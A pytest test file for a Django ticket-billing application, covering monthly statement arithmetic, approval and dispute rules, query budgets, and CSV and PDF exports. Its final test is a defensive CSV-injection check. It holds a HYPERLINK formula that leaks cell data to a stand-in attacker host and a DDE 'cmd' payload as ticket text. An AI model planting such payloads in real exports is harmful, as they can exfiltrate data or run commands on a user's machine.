"""Monthly statements: the worked example, exports, decisions and the query budget."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from pypdf import PdfReader

from secondline.accounts.access import AccessDenied
from secondline.billing import export, out_of_hours, statements, worklogs
from secondline.billing.models import BillingTerms, PrepaidPackage, Statement
from secondline.common import spreadsheet
from secondline.tickets.models import TicketEvent
from tests.billing.conftest import msk
from tests.factories import consultation_draft, file_ticket, filed_long_ago

NOVEMBER = dt.date(2024, 11, 1)


@pytest.fixture
def november(personas: Any, ticket: Any, log: Any, approved: Any, agent: Any) -> Any:
    """The worked example's month of work on contract VL-1 (rate 4000 RUB, x2 out of hours)."""
    contract = personas.contract
    BillingTerms.objects.create(contract=contract, rounding_minutes=15)
    PrepaidPackage.objects.create(
        contract=contract,
        hours=Decimal("8"),
        purchased_on=dt.date(2024, 10, 20),
        valid_from=dt.date(2024, 11, 1),
        valid_until=dt.date(2025, 1, 31),
    )
    second = filed_long_ago(file_ticket(personas.member, consultation_draft(subject="Price lists")))
    approved(ticket, msk(2024, 11, 1, 18), msk(2024, 11, 1, 21))
    approved(second, msk(2024, 11, 3, 13), msk(2024, 11, 3, 16))
    logs = [
        log(ticket, msk(2024, 11, 1, 10), msk(2024, 11, 1, 12, 10), description="Diagnosis"),
        log(ticket, msk(2024, 11, 1, 18, 30), msk(2024, 11, 1, 20), activity="fix"),
        log(second, msk(2024, 11, 2, 11), msk(2024, 11, 2, 12), activity="consultation"),
        log(second, msk(2024, 11, 3, 14), msk(2024, 11, 3, 15, 20), activity="meeting"),
        log(ticket, msk(2024, 11, 4, 10), msk(2024, 11, 4, 11)),
        log(ticket, msk(2024, 11, 5, 19), msk(2024, 11, 5, 19, 5), activity="update_installation"),
        log(second, msk(2024, 11, 6, 9, 50), msk(2024, 11, 6, 10, 20)),
        log(second, msk(2024, 11, 7, 11), msk(2024, 11, 7, 12), billable=False),
        log(ticket, msk(2024, 11, 9, 10), msk(2024, 11, 9, 11)),
        log(ticket, msk(2024, 12, 2, 11), msk(2024, 12, 2, 12)),  # next month
    ]
    late = out_of_hours.raise_out_of_hours_request(
        ticket, agent, reason="Evening hotfix", worklogs=[logs[5]]
    )
    out_of_hours.approve_out_of_hours_request(late, personas.manager)
    out_of_hours.approve_out_of_hours_request(late, personas.responsible)
    rejected = out_of_hours.raise_out_of_hours_request(
        ticket, agent, reason="Saturday check", worklogs=[logs[8]]
    )
    out_of_hours.reject_out_of_hours_request(rejected, personas.responsible, "Not agreed")
    return logs


def test_the_worked_example_matches_the_hand_computation(
    personas: Any, november: Any, manager: Any
) -> None:
    """Contract VL-1: 4000.00 RUB/h, out of hours x2.00 = 8000.00 RUB/h, logs rounded up to
    15 min, Moscow calendar, November 2024 (Sat 2 Nov works, Mon 4 Nov is Unity Day).

    1. Fri 1 Nov 10:00-12:10 business 130 min -> 135 min = 2.25 h x 4000 = 9000.00
    2. Fri 1 Nov 18:30-20:00 business 30 min = 2000.00; 19:00-20:00 out of hours, inside the
       approved 18:00-21:00 window: 60 min x 8000/60 = 8000.00; line 10000.00
    3. Sat 2 Nov (working Saturday) 11:00-12:00 business 60 min = 4000.00
    4. Sun 3 Nov 14:00-15:20 out of hours, approved window: 80 min x 8000/60 = 10666.67; rounded
       up to 90 min, the 10 min added at the business rate = 666.67; line 11333.34
    5. Mon 4 Nov (holiday) 10:00-11:00: 60 min out of hours, no request: unverified, 0.00
    6. Tue 5 Nov 19:00-19:05: 5 min out of hours approved after the fact = 666.67; rounded up to
       15 min, the 10 min added at the business rate = 666.67; line 1333.34
    7. Wed 6 Nov 09:50-10:20: business 20 min -> 30 min = 2000.00; 10 min before 10:00
       unverified, 0.00
    8. Thu 7 Nov non-billable: no line.  9. Sat 9 Nov 10:00-11:00 rejected: 60 min, 0.00
    10. Mon 2 Dec: next month, no line.

    Business 135+30+60+10+10+30 = 275 min = 4.58 h: 9000+2000+4000+666.67+666.67+2000 = 18333.34
    Out of hours 60+80+5 = 145 min = 2.42 h: 8000+10666.67+666.67 = 19333.34; total 37666.68
    Unverified 60+10+60 = 130 min, not billed.
    Prepaid 8 h = 480 min; the month weighs 275 + 145 x 2 = 565 min, so all 480 min are drawn,
    day by day, and priced as the lines price that day's work (``rules.covered_amount``):
    1 Nov (135 + 30 + 60 x 2 = 285 min) and 2 Nov (60 min) whole, 19000.00 + 4000.00; 3 Nov
    135 of its 10 + 80 x 2 = 170 min, 11333.34 x 135/170 = 9000.005...; 32000.01 covered (the
    cent is 3 Nov's line rounding, which 480 x 4000/60 = 32000.00 used to leave due);
    due 37666.68 - 32000.01 = 5666.67; 0 h left.
    """
    statement = statements.generate_statement(personas.contract, NOVEMBER, manager)
    lines = list(statement.lines.order_by("started_at"))
    assert [line.amount for line in lines] == [
        Decimal(x)
        for x in [
            "9000.00",
            "10000.00",
            "4000.00",
            "11333.34",
            "0.00",
            "1333.34",
            "2000.00",
            "0.00",
        ]
    ]
    assert [
        (line.business_minutes, line.out_of_hours_minutes, line.unverified_minutes)
        for line in lines
    ] == [
        (135, 0, 0),
        (30, 60, 0),
        (60, 0, 0),
        (10, 80, 0),
        (0, 0, 60),
        (10, 5, 0),
        (30, 0, 10),
        (0, 0, 60),
    ]
    assert (statement.business_minutes, statement.out_of_hours_minutes) == (275, 145)
    assert statement.unverified_minutes == 130
    assert statement.business_amount == Decimal("18333.34")
    assert statement.out_of_hours_amount == Decimal("19333.34")
    assert statement.total_amount == Decimal("37666.68")
    assert statement.prepaid_minutes_used == Decimal(480)
    assert statement.prepaid_amount == Decimal("32000.01")
    assert statement.amount_due == Decimal("5666.67")
    assert statement.prepaid_hours_left == Decimal("0.00")
    assert lines[1].hourly_rate == Decimal("4000.00")
    assert lines[1].out_of_hours_rate == Decimal("8000.00")
    assert lines[0].description == "Diagnosis"
    assert lines[0].ticket_number.startswith("SL-")


def test_unverified_out_of_hours_work_never_reaches_the_bill(
    personas: Any, ticket: Any, log: Any, manager: Any
) -> None:
    log(ticket, msk(2024, 11, 3, 10), msk(2024, 11, 3, 18))
    log(ticket, msk(2024, 11, 4, 0), msk(2024, 11, 4, 8))
    statement = statements.generate_statement(personas.contract, NOVEMBER, manager)
    assert statement.total_amount == Decimal("0.00")
    assert statement.out_of_hours_minutes == 0
    assert statement.unverified_minutes == 16 * 60
    assert all(line.amount == 0 for line in statement.lines.all())


def test_a_statement_is_approved_by_the_responsible_person_only(
    personas: Any, november: Any, manager: Any, member: Any
) -> None:
    statement = statements.generate_statement(personas.contract, NOVEMBER, manager)
    with pytest.raises(ValidationError) as refused:
        statements.approve_statement(statement, personas.responsible)  # still a draft
    assert "Only an issued statement" in refused.value.message_dict["status"][0]
    statements.issue_statement(statement, manager)
    for who in (member, manager, personas.outsider_responsible):
        with pytest.raises(AccessDenied):
            statements.approve_statement(statement, who)
    with pytest.raises(AccessDenied):
        statements.generate_statement(personas.contract, NOVEMBER, personas.responsible)
    approved = statements.approve_statement(statement, personas.responsible)
    assert approved.status == Statement.Status.APPROVED
    assert approved.decided_by == personas.responsible
    with pytest.raises(ValidationError) as refused:
        statements.generate_statement(personas.contract, NOVEMBER, manager)
    assert "approved and final" in refused.value.message_dict["period"][0]
    with pytest.raises(ValidationError, match="approved"):
        worklogs.update_worklog(november[0], manager, {"description": "changed"})


def test_a_disputed_line_sends_the_statement_back(
    personas: Any, november: Any, manager: Any, responsible: Any
) -> None:
    statement = statements.issue_statement(
        statements.generate_statement(personas.contract, NOVEMBER, manager), manager
    )
    line = statement.lines.order_by("started_at").first()
    with pytest.raises(ValidationError) as refused:
        statements.dispute_line(line, responsible, "  ")
    assert set(refused.value.message_dict) == {"comment"}
    statements.dispute_line(line, responsible, "We agreed on two hours")
    statement.refresh_from_db()
    assert statement.status == Statement.Status.DISPUTED
    with pytest.raises(ValidationError) as refused:
        statements.approve_statement(statement, responsible)
    assert "Only an issued statement" in refused.value.message_dict["status"][0]
    assert line.ticket.events.filter(
        kind=TicketEvent.Kind.OTHER, field="statement_line", actor=responsible
    ).exists()
    # the contractor answers with corrections (corrections.py): rebuilding the lines from the
    # work logs would drop the disputed line and its comment
    with pytest.raises(ValidationError) as refused:
        statements.generate_statement(personas.contract, NOVEMBER, manager)
    assert "disputed" in refused.value.message_dict["period"][0]
    assert statement.lines.get(pk=line.pk).dispute_comment == "We agreed on two hours"


def test_statement_generation_takes_the_same_queries_for_any_number_of_logs_in_a_batch(
    personas: Any, ticket: Any, log: Any, manager: Any, django_assert_num_queries: Any
) -> None:
    def count(n: int) -> int:
        for i in range(n):
            day = 4 + i % 20
            log(ticket, msk(2024, 12, day, 11), msk(2024, 12, day, 11, 30))
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        with CaptureQueriesContext(connection) as queries:
            statements.generate_statement(personas.contract, dt.date(2024, 12, 1), manager)
        return len(queries)

    few = count(2)
    # 30 lines fit one INSERT on SQLite too (999 parameters a statement, about 30 a line).
    assert count(30) == few
    with django_assert_num_queries(few):
        statements.generate_statement(personas.contract, dt.date(2024, 12, 1), manager)


def test_the_csv_lists_every_line_and_the_totals(
    personas: Any, november: Any, manager: Any
) -> None:
    statement = statements.generate_statement(personas.contract, NOVEMBER, manager)
    text = export.statement_csv(statement, "en")
    rows = text.lstrip("\ufeff").splitlines()
    assert rows[0].startswith("Date,Ticket,Subject")
    assert len(rows) == 1 + 8 + 3
    assert rows[1].startswith("2024-11-01,SL-")
    assert ",2.25,0.00,0.00,4000.00,8000.00,9000.00,0.00,9000.00," in rows[1]
    assert rows[-3].startswith("Total,") and ",37666.68," in rows[-3]
    assert rows[-1].endswith(",5666.67,RUB")
    russian = export.statement_csv(statement, "ru")
    assert "Дата" in russian and "Итого" in russian and "Анализ" in russian


def _pdf_text(pdf: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)


@pytest.mark.parametrize(
    ("language", "words"),
    [
        ("en", ["Statement of support work", "November 2024", "Amount due", "5666.67"]),
        ("ru", ["Акт", "Ноябрь 2024", "К оплате", "5666,67", "Консультация"]),
    ],
)
def test_the_pdf_renders_in_english_and_russian(
    personas: Any, november: Any, manager: Any, language: str, words: list[str], tmp_path: Path
) -> None:
    statement = statements.generate_statement(personas.contract, NOVEMBER, manager)
    pdf = export.statement_pdf(statement, language)
    assert pdf.startswith(b"%PDF")
    text = _pdf_text(pdf)
    for word in words:
        assert word in text
    if shutil.which("pdftoppm"):
        target = tmp_path / "page"
        (tmp_path / "s.pdf").write_bytes(pdf)
        subprocess.run(
            ["pdftoppm", "-png", "-r", "50", "-f", "1", "-l", "1", tmp_path / "s.pdf", target],
            check=True,
        )
        assert list(tmp_path.glob("page*.png"))


def test_the_csv_writes_a_formula_in_a_subject_or_description_as_text(
    personas: Any, log: Any, manager: Any
) -> None:
    """A customer's ticket subject and an agent's description reach the manager's spreadsheet:
    a cell starting with =, +, -, @ must not run (OWASP CSV Injection)."""
    subject = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    ticket = filed_long_ago(file_ticket(personas.member, consultation_draft(subject=subject)))
    log(ticket, msk(2024, 11, 6, 11), msk(2024, 11, 6, 12), description="@SUM(1+1)*cmd|'/C calc'")
    statement = statements.generate_statement(personas.contract, NOVEMBER, manager)
    rows = list(csv.reader(io.StringIO(export.statement_csv(statement, "en").lstrip("\ufeff"))))
    line = rows[1]
    assert line[2] == "'" + subject
    assert line[5] == "'@SUM(1+1)*cmd|'/C calc'"
    assert line[6] == "1.00" and line[13] == "4000.00"  # numbers stay numbers
    flagged = [c for row in rows for c in row if c[:1] in spreadsheet.FORMULA_STARTS]
    assert flagged == []
